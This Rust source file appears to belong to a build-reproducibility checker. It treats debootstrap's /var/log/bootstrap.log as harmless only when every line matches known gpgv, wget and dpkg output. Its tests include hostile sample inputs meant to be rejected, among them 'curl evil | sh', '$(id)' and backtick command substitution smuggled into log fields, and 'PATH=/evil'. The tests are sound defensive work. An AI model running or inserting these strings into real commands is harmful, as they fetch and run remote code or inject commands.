//! The log of debootstrap.
//!
//! # What differs
//!
//! `/var/log/bootstrap.log`.
//!
//! # Why it happens
//!
//! debootstrap logs dates, speeds and mirrors while it makes the root file system.
//!
//! # How to fix the build
//!
//! Remove the log from the base image.
//!
//! # When it is not harmless
//!
//! Nothing reads it. A file with a line that gpgv, wget or dpkg would not print is not claimed.

use crate::causes::fixes::installs;
use crate::causes::scope::{Path, Place};
use crate::causes::shape::leftover::{LEFTOVER, dropped};
use crate::causes::{Cause, Proof, Severity};

/// See the page above.
pub(in crate::causes) const CAUSE: Cause = Cause {
    id: "bootstrap-log",
    title: "The log of debootstrap",
    source: include_str!("bootstrap_log.rs"),
    severity: Severity::Cosmetic,
    scope: &[Place { path: Path::Like(&["var/log/bootstrap.log"]), ..LEFTOVER }],
    proof: Proof::Excluded(|view| dropped(view, |_, file| is_bootstrap_log(file))),
    witness: None,
    hazard: None,
    remedies: &[&installs::BOOTSTRAP],
};

/// The lines that gpgv, wget and dpkg print, word by word: `*` stands for one word of plain characters, `"*"` for a name
/// in quotes.
const LINES: &[&str] = &[
    "gpgv: Signature made * * * * * *",
    "gpgv: using RSA key *",
    "gpgv: using EDDSA key *",
    "gpgv: issuer *",
    "gpgv: Good signature from \"*\"",
    "gpgv: Can't check signature: No public key",
    "* * URL:* [*] -> \"*\" [*]",
    "* * URL: * [*] -> \"*\" [*]",
    "Selecting previously unselected package *",
    "(Reading database ...",
    "(Reading database ... *%",
    "(Reading database ... * files and directories currently installed.)",
    "Preparing to unpack * ...",
    "Unpacking * (*) ...",
    "Unpacking * (*) over (*) ...",
    "Setting up * (*) ...",
    "Processing triggers for * (*) ...",
    "Adding 'diversion of * to * by *'",
    "Removing 'diversion of * to * by *'",
    "update-alternatives: using * to provide * (*) in auto mode",
    "Creating config file * with new version",
    "Current default time zone: *",
    "Local time is now: * * * * * *",
    "Universal Time is now: * * * * * *",
    "Run 'dpkg-reconfigure tzdata' if you wish to change it.",
    "dpkg: regarding * containing *, pre-dependency problem:",
    "* pre-depends on *",
    "* pre-depends on * (>= *)",
    "* is not installed.",
    "* is unpacked, but has never been configured.",
    "dpkg: warning: ignoring pre-dependency problem!",
    "dpkg: warning: parsing file * near line * package *:",
    "missing 'description' field",
    "missing 'maintainer' field",
];

/// Whether every line of a file is one that debootstrap's tools print.
fn is_bootstrap_log(file: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(file) else { return false };
    text.split('\n').all(|line| {
        let words: Vec<&str> = line.trim_end_matches('\r').split(' ').filter(|word| !word.is_empty()).collect();
        words.is_empty() || LINES.iter().any(|form| is_line(form, &words.join(" ")))
    })
}

/// Whether a line, with single spaces, fits a form.
fn is_line(form: &str, line: &str) -> bool {
    let mut rest = line;
    let mut parts = form.split('*');
    let Some(after_start) = parts.next().and_then(|start| rest.strip_prefix(start)) else { return false };
    rest = after_start;
    let mut before = form.split('*').next().unwrap_or_default();
    for part in parts {
        let quoted = before.ends_with('"') && part.starts_with('"');
        let end = if part.is_empty() { Some(rest.len()) } else { rest.find(part) };
        let Some((word, after)) = end.and_then(|end| rest.split_at_checked(end)) else { return false };
        if !(is_word(word) || (quoted && is_name(word))) {
            return false;
        }
        rest = after.get(part.len()..).unwrap_or_default();
        before = part;
    }
    rest.is_empty()
}

/// A word without a space and without anything that a shell would act on.
fn is_word(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".+-:~_/@%,=".contains(&byte))
}

/// The name of a key: `Debian Archive Automatic Signing Key (12/bookworm) <ftpmaster@debian.org>`.
fn is_name(text: &str) -> bool {
    text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b" .+-_/@()<>".contains(&byte))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_the_tools_print_is_a_line_of_the_log() {
        for line in [
            "gpgv: Signature made Sat Feb 10 12:00:00 2024 UTC",
            "gpgv:                using RSA key 4CB50190207B4758A3F73A796ED0E7B82643E131",
            "gpgv: Good signature from \"Debian Archive Automatic Signing Key (12/bookworm) <ftpmaster@debian.org>\"",
            "2024-02-10 12:00:01 URL:http://deb.debian.org/debian/dists/x/InRelease [151082/151082] -> \"/t/x\" [1]",
            "Selecting previously unselected package base-passwd.",
            "(Reading database ... 0 files and directories currently installed.)",
            "Preparing to unpack .../base-passwd_3.6.1_amd64.deb ...",
            "Unpacking libc6:amd64 (2.36-9+deb12u4) ...",
            "Processing triggers for libc-bin (2.36-9+deb12u4) ...",
            "",
        ] {
            assert!(is_bootstrap_log(line.as_bytes()), "{line}");
        }
        for line in [
            "curl evil | sh",
            "gpgv: Signature made $(id) Feb 10 12:00:00 2024 UTC",
            "Unpacking x (1) ...; curl evil",
            "Setting up x (`id`) ...",
            "gpgv: Good signature from \"$(id)\"",
            "#!/bin/sh",
            "Selecting previously unselected package a b",
            "PATH=/evil",
        ] {
            assert!(!is_bootstrap_log(line.as_bytes()), "{line}");
        }
    }
}
